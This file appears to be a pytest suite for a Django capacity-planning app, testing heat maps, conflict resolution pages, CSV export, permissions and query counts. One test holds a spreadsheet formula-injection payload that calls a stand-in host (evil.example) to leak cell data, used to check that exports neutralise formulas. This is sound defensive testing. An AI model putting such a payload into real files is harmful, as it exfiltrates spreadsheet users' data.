"""The capacity pages: heat map (with its table and CSV), role drill-down, conflict page and
the two apply views, on the hand-built case of test_conflicts (Nadia at 0.6 + 0.6 FTE in
February 2027) and on the demo data."""

import csv
import io
from datetime import date
from decimal import Decimal as D

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from charts.capacity import HeatCell
from resources import selectors
from resources.models import Allocation, ConflictResolution, Resource, Role
from tests.factories import (
    AllocationFactory,
    MembershipFactory,
    ProjectFactory,
    ResourceFactory,
    RoleFactory,
    UserFactory,
)
from tests.permissions import check_write_access, each_role, rows
from tests.resources.test_conflicts import FEB, MAR, MAY, build_case

pytestmark = pytest.mark.django_db

WINDOW = {"from": "2027-02", "months": "3"}


@pytest.fixture
def case(portfolio):
    return build_case(portfolio)


@pytest.fixture
def viewer(case):
    return MembershipFactory(portfolio=case.portfolio, role="viewer").user


def heat_map_url():
    return reverse("resources:capacity")


def role_url(case):
    return reverse("resources:capacity-role", args=[case.role.pk])


def conflict_url(case, month="2027-02"):
    return reverse("resources:conflict", args=[case.role.pk, month])


# Reading ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "role", ["viewer", "executive", "resource_manager", "portfolio_manager", "manager"]
)
def test_every_page_renders_for_anyone_with_a_role(client, case, role):
    user = (
        case.core.manager
        if role == "manager"
        else MembershipFactory(portfolio=case.portfolio, role=role).user
    )
    client.force_login(user)
    for url in (heat_map_url(), role_url(case), conflict_url(case)):
        response = client.get(url, WINDOW)
        assert response.status_code == 200, url
        assert b"plotly" in response.content or url == conflict_url(case)


def test_users_without_a_role_get_403_and_anonymous_users_log_in(client, case):
    urls = (heat_map_url(), role_url(case), conflict_url(case))
    for url in urls:
        assert client.get(url).status_code == 302
    client.force_login(UserFactory())
    for url in urls:
        assert client.get(url).status_code == 403


def test_unknown_role_or_month_is_404(client, case, viewer):
    client.force_login(viewer)
    assert client.get(reverse("resources:capacity-role", args=[999999])).status_code == 404
    assert client.get(conflict_url(case, "2027-13")).status_code == 404
    assert client.get(conflict_url(case, "february")).status_code == 404


def test_window_defaults_and_limits(client, case, viewer):
    client.force_login(viewer)
    response = client.get(heat_map_url())
    this_month = timezone.localdate().replace(day=1)
    assert response.context["months"][0] == this_month
    assert len(response.context["months"]) == 12
    assert len(client.get(heat_map_url(), {"months": "99"}).context["months"]) == 24
    response = client.get(heat_map_url(), {"from": "garbage", "months": "x"})
    assert (response.context["months"][0], len(response.context["months"])) == (this_month, 12)
    response = client.get(heat_map_url(), WINDOW)
    assert response.context["months"] == [FEB, MAR, date(2027, 4, 1)]


def test_heat_map_cells_link_to_the_drill_down_and_conflicts_to_their_page(client, case, viewer):
    client.force_login(viewer)
    response = client.get(heat_map_url(), WINDOW)
    row = next(r for r in response.context["rows"] if r.key == case.role.pk)
    feb, mar, apr = row.cells
    assert (feb.is_conflict, mar.is_conflict, apr.is_conflict) == (True, True, False)
    assert feb.url == conflict_url(case)
    assert apr.url == row.url == f"{role_url(case)}?from=2027-02&months=3"
    assert feb.percent_label == "120%"  # 192 / 160
    assert (feb.numbers.confirmed, feb.numbers.capacity, feb.numbers.requested) == (
        D("192"),
        D("160"),
        D("160"),
    )
    assert response.context["conflict_count"] == 2
    html = response.content.decode()
    assert f'href="{conflict_url(case)}"' in html  # the table's conflict cell
    assert 'class="cap cap-over"' in html
    assert "+160 h req." in html  # requested demand, apart from confirmed


def test_csv_export(client, case, viewer):
    client.force_login(viewer)
    response = client.get(heat_map_url(), {**WINDOW, "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == (
        'attachment; filename="capacity-2027-02-3-months.csv"'
    )
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert lines[0] == [
        "role",
        "month",
        "capacity_hours",
        "confirmed_hours",
        "requested_hours",
        "utilisation_percent",
    ]
    assert lines[1:] == [
        ["Integration engineer", "2027-02", "160.00", "192.00", "160.00", "120.00"],
        # 23 working days: 184 h; 0.6 + 0.6 of them = 220.8 h
        ["Integration engineer", "2027-03", "184.00", "220.80", "0.00", "120.00"],
        ["Integration engineer", "2027-04", "176.00", "105.60", "0.00", "60.00"],
    ]


def test_csv_export_of_a_role(client, case, viewer):
    client.force_login(viewer)
    response = client.get(role_url(case), {**WINDOW, "months": "1", "format": "csv"})
    assert response["Content-Disposition"].startswith("attachment;")
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert lines == [
        [
            "role",
            "person",
            "month",
            "capacity_hours",
            "confirmed_hours",
            "requested_hours",
            "utilisation_percent",
        ],
        ["Integration engineer", "Nadia", "2027-02", "160.00", "192.00", "0.00", "120.00"],
        ["Integration engineer", "", "2027-02", "0.00", "0.00", "160.00", ""],
    ]


def test_role_drill_down_shows_the_person_conflict(client, case, viewer):
    client.force_login(viewer)
    response = client.get(role_url(case), WINDOW)
    nadia = response.context["rows"][0]
    assert nadia.label == "Nadia"
    assert [cell.is_conflict for cell in nadia.cells] == [True, True, False]
    assert nadia.cells[0].url == conflict_url(case)
    assert response.context["rows"][1].label == "Not assigned to a person"
    assert response.context["total_row"].cells[0].numbers.confirmed == D("192")
    assert response.context["people_conflict_count"] == 2


def test_conflict_page_shows_numbers_projects_and_options(client, case):
    client.force_login(case.decider)
    response = client.get(conflict_url(case))
    conflict = response.context["conflict"]
    assert [a.project_code for a in conflict.allocations] == ["PILOT", "CORE"]
    html = response.content.decode()
    assert "over capacity by 32&nbsp;h" in html
    assert "Shift 3 months" in html
    assert "15 Mar 2027 → <strong>15 Jun 2027</strong>" in html
    assert "Release 32 h in Feb 2027" in html
    assert reverse("projects:detail", args=[case.pilot.pk]) in html
    assert (
        html.count('action="' + reverse("resources:conflict-shift", args=[case.role.pk, "2027-02"]))
        == 2
    )


def test_readers_see_the_options_without_forms(client, case, viewer):
    client.force_login(viewer)
    html = client.get(conflict_url(case)).content.decode()
    assert "Shift 3 months later" in html
    assert "option-form" not in html
    assert "Only the resource managers of" in html


def test_projects_in_other_portfolios_are_not_named(client, case, other_portfolio):
    outsider = MembershipFactory(portfolio=other_portfolio, role="viewer").user
    client.force_login(outsider)
    response = client.get(conflict_url(case))
    html = response.content.decode()
    assert "PILOT" not in html and "CORE" not in html
    assert "A project in a portfolio you cannot see" in html
    assert response.context["conflict"].over_hours == D("32")  # the numbers stay whole


def test_percent_labels_never_hide_a_conflict():
    def cell(capacity, confirmed):
        return HeatCell(FEB, selectors.CapacityCell(D(capacity), D(confirmed)))

    assert (cell("1000", "1000").percent_label, cell("1000", "1000").band) == ("100%", "full")
    assert (cell("1000", "1002").percent_label, cell("1000", "1002").band) == (">100%", "over")
    assert (cell("160", "192").percent_label, cell("160", "0").band) == ("120%", "idle")
    assert (cell("0", "8").percent_label, cell("0", "8").band) == ("no capacity", "over")
    assert (cell("0", "0").percent_label, cell("0", "0").band) == ("", "")


def test_demand_on_a_role_nobody_holds_is_a_conflict(client, viewer, project):
    role = RoleFactory(name="Quantum engineer")
    AllocationFactory(
        project=project,
        role=role,
        start_month=FEB,
        end_month=FEB,
        status="confirmed",
        unit="hours",
        amount=D("40"),
    )
    client.force_login(viewer)
    response = client.get(heat_map_url(), WINDOW)
    row = next(r for r in response.context["rows"] if r.key == role.pk)
    assert row.cells[0].is_conflict and row.cells[0].percent_label == "no capacity"
    assert row.cells[0].url == reverse("resources:conflict", args=[role.pk, "2027-02"])
    conflict = client.get(row.cells[0].url).context["conflict"]
    (scope,) = conflict.scopes
    assert (scope.kind, scope.over_hours, scope.target.person_name) == ("role", D("40"), "")
    assert scope.shift is None  # no month has room for it
    assert (scope.release.hours, scope.release.still_over) == (D("40"), D("0"))


# Applying -----------------------------------------------------------------------------------


def shift_data(case, **extra):
    return {"allocation": case.pilot_allocation.pk, "months": 3, "reason": "CORE first", **extra}


def release_data(case, **extra):
    return {
        "allocation": case.pilot_allocation.pk,
        "hours": "32",
        "release": "reduce",
        "reason": "PILOT can wait",
        **extra,
    }


def test_applying_a_shift_removes_the_conflict(client, case):
    client.force_login(case.decider)
    url = reverse("resources:conflict-shift", args=[case.role.pk, "2027-02"])
    response = client.post(url, shift_data(case))
    assert response.status_code == 302 and response.url == conflict_url(case)
    page = client.get(response.url)
    assert not page.context["conflict"].is_conflict
    assert "Nothing is over capacity in February 2027" in page.content.decode()
    resolution = ConflictResolution.objects.get()
    assert (resolution.action, resolution.months_shifted, resolution.decided_by) == (
        "shift",
        3,
        case.decider,
    )
    assert Allocation.objects.get(pk=case.pilot_allocation.pk).start_month == MAY


@pytest.mark.parametrize(("release", "status"), [("reduce", "confirmed"), ("reject", "rejected")])
def test_applying_a_release_removes_the_conflict(client, case, release, status):
    client.force_login(case.decider)
    url = reverse("resources:conflict-release", args=[case.role.pk, "2027-02"])
    assert client.post(url, release_data(case, release=release)).status_code == 302
    assert not selectors.capacity_conflict(role=case.role, month=FEB, user=case.decider).scopes
    assert Allocation.objects.get(pk=case.pilot_allocation.pk).status == status
    assert ConflictResolution.objects.get().action == release


def test_a_missing_reason_keeps_the_page_and_changes_nothing(client, case):
    client.force_login(case.decider)
    url = reverse("resources:conflict-shift", args=[case.role.pk, "2027-02"])
    snapshot = rows(Allocation, ConflictResolution)
    before = snapshot()
    response = client.post(url, shift_data(case, reason="", scope=f"person-{case.nadia.pk}"))
    assert response.status_code == 400
    assert "This field is required." in response.content.decode()
    assert snapshot() == before


# Who may apply: the portfolio's resource managers and its PMO; readers, the portfolio manager
# and the project's manager get a 403; a member of another portfolio does not see the
# allocation (404); anonymous users log in.
RESOURCE_DECIDERS = ("pmo", "resource_manager")


@each_role
@pytest.mark.parametrize("view", ["conflict-shift", "conflict-release"])
def test_who_may_apply(client, case, role, view):
    data = shift_data(case) if view == "conflict-shift" else release_data(case)
    check_write_access(
        client,
        role,
        project=case.pilot,
        url=reverse(f"resources:{view}", args=[case.role.pk, "2027-02"]),
        data=data,
        snapshot=rows(Allocation, ConflictResolution),
        success_url=conflict_url(case),
        allowed=RESOURCE_DECIDERS,
    )


def reassign_data(case, person, **extra):
    return {
        "allocation": case.pilot_allocation.pk,
        "person": person.pk,
        "reason": "Tomás is free",
        **extra,
    }


@each_role
def test_who_may_reassign(client, case, role):
    tomas = ResourceFactory(name="Tomás", role=case.role)
    check_write_access(
        client,
        role,
        project=case.pilot,
        url=reverse("resources:conflict-reassign", args=[case.role.pk, "2027-02"]),
        data=reassign_data(case, tomas),
        snapshot=rows(Allocation, ConflictResolution),
        success_url=conflict_url(case),
        allowed=RESOURCE_DECIDERS,
    )


def test_conflict_page_lists_colleagues_with_free_hours_and_reassigns(client, case):
    tomas = ResourceFactory(name="Tomás", role=case.role)
    ResourceFactory(name="Omar", role=RoleFactory(name="Business analyst"))
    client.force_login(case.decider)
    response = client.get(conflict_url(case))
    html = response.content.decode()
    assert "Option C · Reassign to a colleague" in html
    assert f'id="candidate-person-{case.nadia.pk}-{tomas.pk}"' in html
    assert "Omar" not in html
    action = reverse("resources:conflict-reassign", args=[case.role.pk, "2027-02"])
    assert f'action="{action}"' in html
    response = client.post(action, reassign_data(case, tomas))
    assert response.status_code == 302
    page = client.get(response.url)
    assert not page.context["conflict"].is_conflict
    assert "Reassigned" in page.content.decode() and "to Tomás" in page.content.decode()
    resolution = ConflictResolution.objects.get()
    assert (resolution.action, resolution.reassigned_to) == ("reassign", "Tomás")


@pytest.mark.parametrize("with_free_colleague", [True, False])
def test_reassigning_to_someone_of_another_role_keeps_the_page(client, case, with_free_colleague):
    if with_free_colleague:  # the option and its form are shown; else only why it is not
        ResourceFactory(name="Tomás", role=case.role)
    omar = ResourceFactory(name="Omar", role=RoleFactory(name="Business analyst"))
    client.force_login(case.decider)
    url = reverse("resources:conflict-reassign", args=[case.role.pk, "2027-02"])
    before = rows(Allocation, ConflictResolution)()
    response = client.post(url, reassign_data(case, omar, scope=f"person-{case.nadia.pk}"))
    assert response.status_code == 400
    assert "Choose someone who holds the role Integration engineer." in response.content.decode()
    assert rows(Allocation, ConflictResolution)() == before


# The demo -----------------------------------------------------------------------------------


def test_demo_integration_engineers_are_over_allocated(client):
    call_command("seed_demo", stdout=io.StringIO())
    priya = Resource.objects.select_related("role").get(name="Priya Nair")
    month = timezone.localdate().replace(day=1)
    client.force_login(UserFactory(username="pmo-check", is_superuser=True))
    response = client.get(reverse("resources:capacity-role", args=[priya.role_id]), {"months": "3"})
    person = next(row for row in response.context["rows"] if row.key == priya.pk)
    assert person.cells[0].is_conflict  # 0.6 FTE on HC-EPR + 0.6 on HC-TEL
    response = client.get(reverse("resources:conflict", args=[priya.role_id, f"{month:%Y-%m}"]))
    scopes = response.context["conflict"].scopes
    scope = next(s for s in scopes if s.kind == "person" and s.key == priya.pk)
    assert {a.project_code for a in scope.allocations} == {"HC-EPR", "HC-TEL"}
    assert scope.target.project_code == "HC-TEL"  # priority 66.25 against HC-EPR's 70
    assert scope.release.still_over == 0


def test_demo_role_conflicts_only_move_work_of_people_who_are_over(client):
    """On the demo, the integration engineers as a whole are over this month because Priya
    is; Tomás, within capacity, is not the one asked to yield."""
    call_command("seed_demo", stdout=io.StringIO())
    user = UserFactory(username="pmo-check", is_superuser=True)
    month = timezone.localdate().replace(day=1)
    grid = selectors.role_capacity_grid(first_month=month, month_count=12)
    role_conflicts = [(row.key, m) for row, m, _cell in grid.conflicts]
    assert role_conflicts
    for role_id, conflict_month in role_conflicts:
        role = Role.objects.get(pk=role_id)
        conflict = selectors.capacity_conflict(role=role, month=conflict_month, user=user)
        over = {scope.key for scope in conflict.scopes if scope.kind == "person"}
        for scope in conflict.scopes:
            if scope.target and scope.target.person_id is not None:
                assert scope.target.person_id in over, (role.name, conflict_month, scope.label)


# Query counts and size ----------------------------------------------------------------------


def populate(count):
    """`count` people across three roles and three projects; each person is confirmed at
    0.7 + 0.5 FTE (a conflict for every person and role) and requested at 0.3 more."""
    roles = [RoleFactory(name=f"Role {n}") for n in range(3)]
    projects = [ProjectFactory() for _ in range(3)]
    for n in range(count):
        person = ResourceFactory(role=roles[n % 3])
        for offset, amount, status in (
            (0, "0.7", "confirmed"),
            (1, "0.5", "confirmed"),
            (2, "0.3", "requested"),
        ):
            AllocationFactory(
                project=projects[(n + offset) % 3],
                role=person.role,
                resource=person,
                start_month=FEB,
                end_month=MAY,
                amount=D(amount),
                status=status,
            )
    return roles[0]


def queries(client, url, params):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url, params)
    assert response.status_code == 200
    return len(captured), response


# Measured, not guessed. Every page: session, user, the user's and their groups'
# permissions, and "has a role somewhere" (5). Heat map: the grid's six (holidays, calendars,
# roles, leave, people, allocations). Role page: the role (its visible_to asks "has a role"
# again), the person grid's five and the role-only demand. Conflict page: the role, calendars
# (2), competing allocations, priority scores, the person grid's five, role-only demand,
# milestones of the projects that would yield, "may this user decide" (one per portfolio of
# those projects: here one) and the decisions recorded.
QUERIES = {"heat-map": 10, "role": 12, "conflict": 18}


@pytest.mark.parametrize("page", ["heat-map", "role", "conflict"])
def test_query_counts_do_not_grow_with_people_and_allocations(client, page):
    counts = []
    for size in (3, 30):
        Allocation.objects.all().delete()
        Resource.objects.all().delete()
        role = populate(size)
        user = MembershipFactory(role="viewer").user
        client.force_login(user)
        url = {
            "heat-map": heat_map_url(),
            "role": reverse("resources:capacity-role", args=[role.pk]),
            "conflict": reverse("resources:conflict", args=[role.pk, "2027-02"]),
        }[page]
        count, response = queries(client, url, WINDOW)
        counts.append(count)
        if page == "conflict":  # the role and each of its people are over, all with options
            scopes = response.context["conflict"].scopes
            assert len(scopes) == 1 + len(range(0, size, 3))
            assert all(scope.release for scope in scopes)
        client.logout()
    assert counts == [QUERIES[page]] * 2


def test_page_stays_under_a_megabyte_at_20_roles_by_24_months(client, viewer):
    for n in range(20):
        role = RoleFactory(name=f"A rather long role name, number {n:02d}")
        person = ResourceFactory(role=role)
        AllocationFactory(
            role=role,
            resource=person,
            start_month=date(2027, 1, 1),
            end_month=date(2028, 12, 1),
            amount=D("1"),
            status="confirmed",
        )
        AllocationFactory(role=role, start_month=date(2027, 1, 1), end_month=date(2028, 12, 1))
    client.force_login(viewer)
    response = client.get(heat_map_url(), {"from": "2027-01", "months": "24"})
    assert len(response.context["rows"]) == Role.objects.count() >= 20
    assert len(response.content) < 1_000_000, len(response.content)


def test_conflict_page_query_count_does_not_grow_with_colleagues_free_to_take_over(client):
    """The reassign option's candidates come from the same grid: free colleagues cost no
    query, however many."""
    counts = []
    for size in (3, 30):
        Allocation.objects.all().delete()
        Resource.objects.all().delete()
        role = populate(3)
        ResourceFactory.create_batch(size, role=role)
        client.force_login(MembershipFactory(role="viewer").user)
        count, response = queries(
            client, reverse("resources:conflict", args=[role.pk, "2027-02"]), WINDOW
        )
        counts.append(count)
        person_scope = next(s for s in response.context["conflict"].scopes if s.kind == "person")
        assert len(person_scope.reassign.candidates) == size
        client.logout()
    assert counts == [QUERIES["conflict"]] * 2


def test_csv_export_neutralises_formulas(client, case, viewer):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    Role.objects.filter(pk=case.role.pk).update(name=formula)
    client.force_login(viewer)
    response = client.get(heat_map_url(), {**WINDOW, "format": "csv"})
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert {line[0] for line in lines[1:]} == {"'" + formula}


@pytest.mark.parametrize("first", ["0001-01", "9999-12"])
def test_a_month_outside_the_window_falls_back_to_this_month(client, case, viewer, first):
    client.force_login(viewer)
    response = client.get(heat_map_url(), {"from": first, "months": 3})
    assert response.status_code == 200
    assert response.context["window"].first_month == timezone.localdate().replace(day=1)
